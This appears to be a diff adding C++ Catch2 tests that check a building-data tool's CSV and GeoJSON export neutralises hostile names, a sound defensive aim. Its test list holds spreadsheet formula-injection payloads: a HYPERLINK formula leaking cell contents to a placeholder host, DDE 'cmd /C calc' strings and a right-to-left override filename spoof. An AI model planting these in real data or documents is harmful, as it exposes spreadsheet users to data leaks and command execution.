@@ -1,0 +1,164 @@
+#include <catch2/catch.hpp>
+
+#include <simdjson.h>
+
+#include <string>
+#include <vector>
+
+#include "qv/core/Text.h"
+#include "qv/scene/Export.h"
+
+using namespace qv;
+
+namespace {
+
+// Names a hostile OpenStreetMap editor could give a building (CSV injection, CWE-1236, and
+// text that breaks naive CSV or JSON writers).
+const std::vector<std::string> kHostile = {
+    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "Quote \"inside\", and a comma",
+    "Two\nlines",
+    "Right-to-left \xE2\x80\xAE"
+    "fdp.exe\xE2\x80\xAC override",
+    "Cin\xC3\xA9polis",
+};
+
+// RFC 4180 reader for the test (quoted fields with doubled quotes, CRLF records).
+std::vector<std::vector<std::string>> readCsv(const std::string& text) {
+  std::vector<std::vector<std::string>> rows(1);
+  std::string field;
+  bool quoted = false, inQuotes = false;
+  for (std::size_t i = 0; i < text.size(); ++i) {
+    const char c = text[i];
+    if (inQuotes) {
+      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
+        field += '"';
+        ++i;
+      } else if (c == '"') {
+        inQuotes = false;
+      } else {
+        field += c;
+      }
+    } else if (c == '"' && field.empty() && !quoted) {
+      inQuotes = quoted = true;
+    } else if (c == ',') {
+      rows.back().push_back(field);
+      field.clear();
+      quoted = false;
+    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
+      rows.back().push_back(field);
+      field.clear();
+      quoted = false;
+      rows.emplace_back();
+      ++i;
+    } else {
+      REQUIRE(c != '"');  // a bare quote inside an unquoted field is not RFC 4180
+      field += c;
+    }
+  }
+  REQUIRE_FALSE(inQuotes);
+  if (rows.back().empty() && field.empty()) rows.pop_back();
+  return rows;
+}
+
+std::vector<BuildingListEntry> hostileList() {
+  std::vector<BuildingListEntry> list;
+  for (std::size_t i = 0; i < kHostile.size(); ++i) {
+    BuildingListEntry b;
+    b.id = "w" + std::to_string(100 + i);
+    b.name = kHostile[i];
+    b.address = kHostile[kHostile.size() - 1 - i];
+    b.use = "office";
+    b.damage = DamageState::Slight;
+    b.peakDriftRatio = 0.0042f;
+    b.peakRoofDisplacementM = 0.031f;
+    b.pgaG = 0.21f;
+    b.heightM = 24.0f;
+    b.storeys = 7;
+    b.x = -1234.5 - static_cast<double>(i);
+    b.y = -250.25;
+    list.push_back(b);
+  }
+  return list;
+}
+
+bool startsWithFormula(const std::string& field) {
+  return !field.empty() && std::string("=+-@\t\r").find(field.front()) != std::string::npos;
+}
+
+}  // namespace
+
+TEST_CASE("CSV export: formula triggers are neutralised, text round-trips, numbers stay numbers", "[scene][export]") {
+  const GeoFrame geo(-74.0, 40.7);
+  const std::string csv = exportCsv(hostileList(), geo);
+  REQUIRE(isValidUtf8(csv));
+  const auto rows = readCsv(csv);
+  REQUIRE(rows.size() == kHostile.size() + 1);
+  const std::vector<std::string>& header = rows[0];
+  REQUIRE(header.size() == 15);
+  CHECK(header[1] == "name");
+  CHECK(header[2] == "address");
+  for (std::size_t i = 0; i < kHostile.size(); ++i) {
+    const auto& row = rows[i + 1];
+    REQUIRE(row.size() == header.size());
+    for (const auto& [column, original] :
+         {std::pair<std::size_t, std::string>{1, kHostile[i]}, {2, kHostile[kHostile.size() - 1 - i]}}) {
+      INFO("column " << header[column] << ", original: " << original);
+      const std::string& field = row[column];
+      CHECK_FALSE(startsWithFormula(field));  // no spreadsheet takes it for a formula
+      if (startsWithFormula(original)) {
+        CHECK(field == "'" + original);  // the original text behind OWASP's apostrophe
+      } else {
+        CHECK(field == original);
+      }
+    }
+    // Negative coordinates and every measure are plain numbers, not neutralised text.
+    CHECK(row[13] == "-" + std::to_string(1234 + i) + ".50");
+    CHECK(row[14] == "-250.25");
+    CHECK(row[11].rfind("-74.0", 0) == 0);  // longitude west of Greenwich
+    CHECK(row[6] == "0.004200");
+  }
+}
+
+TEST_CASE("CSV export: a name with invalid UTF-8 arrives as U+FFFD, not as broken bytes", "[scene][export]") {
+  BuildingListEntry b;
+  b.id = "w1";
+  b.name = "Caf\xE9 (Latin-1)";
+  b.address = "=\xFF";
+  const std::string csv = exportCsv(std::vector<BuildingListEntry>{b}, GeoFrame(-74.0, 40.7));
+  REQUIRE(isValidUtf8(csv));
+  const auto rows = readCsv(csv);
+  REQUIRE(rows.size() == 2);
+  CHECK(rows[1][1] == "Caf\xEF\xBF\xBD (Latin-1)");
+  CHECK(rows[1][2] == "'=\xEF\xBF\xBD");
+}
+
+TEST_CASE("GeoJSON export of hostile names parses and gives the names back", "[scene][export]") {
+  auto list = hostileList();
+  list[0].name += "\xFF";  // and one invalid byte
+  const std::string text = exportGeoJson(list, GeoFrame(-74.0, 40.7));
+  REQUIRE(isValidUtf8(text));
+  simdjson::dom::parser parser;
+  simdjson::dom::element root;
+  REQUIRE(parser.parse(text).get(root) == simdjson::SUCCESS);
+  simdjson::dom::array features;
+  REQUIRE(root["features"].get(features) == simdjson::SUCCESS);
+  REQUIRE(features.size() == kHostile.size());
+  std::size_t i = 0;
+  for (simdjson::dom::element feature : features) {
+    std::string_view name, address;
+    REQUIRE(feature["properties"]["name"].get(name) == simdjson::SUCCESS);
+    REQUIRE(feature["properties"]["address"].get(address) == simdjson::SUCCESS);
+    CHECK(name == (i == 0 ? kHostile[0] + "\xEF\xBF\xBD" : kHostile[i]));
+    CHECK(address == kHostile[kHostile.size() - 1 - i]);
+    double lon = 0.0;
+    REQUIRE(feature["geometry"]["coordinates"].at(0).get(lon) == simdjson::SUCCESS);
+    CHECK(lon < -74.0);
+    ++i;
+  }
+}
